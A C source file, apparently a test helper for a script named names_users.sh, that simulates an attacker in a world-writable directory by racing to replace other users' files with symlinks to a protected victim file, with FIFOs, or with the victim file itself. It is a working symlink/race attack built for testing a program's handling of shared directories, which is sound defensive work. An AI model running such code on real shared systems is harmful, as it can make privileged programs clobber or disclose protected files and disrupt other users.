/* Used by names_users.sh: simulates another user of a world-writable directory.
 *
 *   file_attack DIRECTORY VICTIM HOW NAME...
 *
 * As fast as possible, the program replaces each file of another user in DIRECTORY,
 * unless its name is one of NAME..., with
 *
 *   link     a symbolic link to VICTIM, a file that this user may not read
 *   pipe     a FIFO
 *   other    VICTIM itself, by renaming it
 *
 * It prints a line for each replacement, and exits at the end of standard input. */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *victim, *how;

static bool is_left(const char *name, char **names)
{
    for (; *names != NULL; names++)
        if (strcmp(name, *names) == 0) return true;
    return false;
}

static bool is_ours(const char *name)
{
    struct stat st;
    return lstat(name, &st) != 0 || st.st_uid == geteuid();
}

static bool replace(const char *name)
{
    bool other = strcmp(how, "other") == 0;
    if (other) return rename(victim, name) == 0;
    if (unlink(name) != 0) return false;
    return (strcmp(how, "link") == 0 ? symlink(victim, name) : mkfifo(name, 0666)) == 0;
}

static void look(char **names)
{
    DIR *d = opendir(".");
    struct dirent *e;
    while (d != NULL && (e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.' && (e->d_name[1] == '.' || e->d_name[1] == '\0'))
            continue;
        if (is_left(e->d_name, names) || is_ours(e->d_name)) continue;
        if (!replace(e->d_name)) continue;
        printf("%s in the place of %s\n", how, e->d_name);
        fflush(stdout);
    }
    if (d != NULL) closedir(d);
}

static bool has_ended(void)
{
    char byte;
    struct pollfd in = {.fd = STDIN_FILENO, .events = POLLIN};
    return poll(&in, 1, 0) > 0 && read(STDIN_FILENO, &byte, 1) <= 0;
}

int main(int argc, char **argv)
{
    if (argc < 4 || chdir(argv[1]) != 0) return 1;
    victim = argv[2];
    how = argv[3];
    while (!has_ended()) {
        look(argv + 4);
        (void)sched_yield();
    }
    return 0;
}
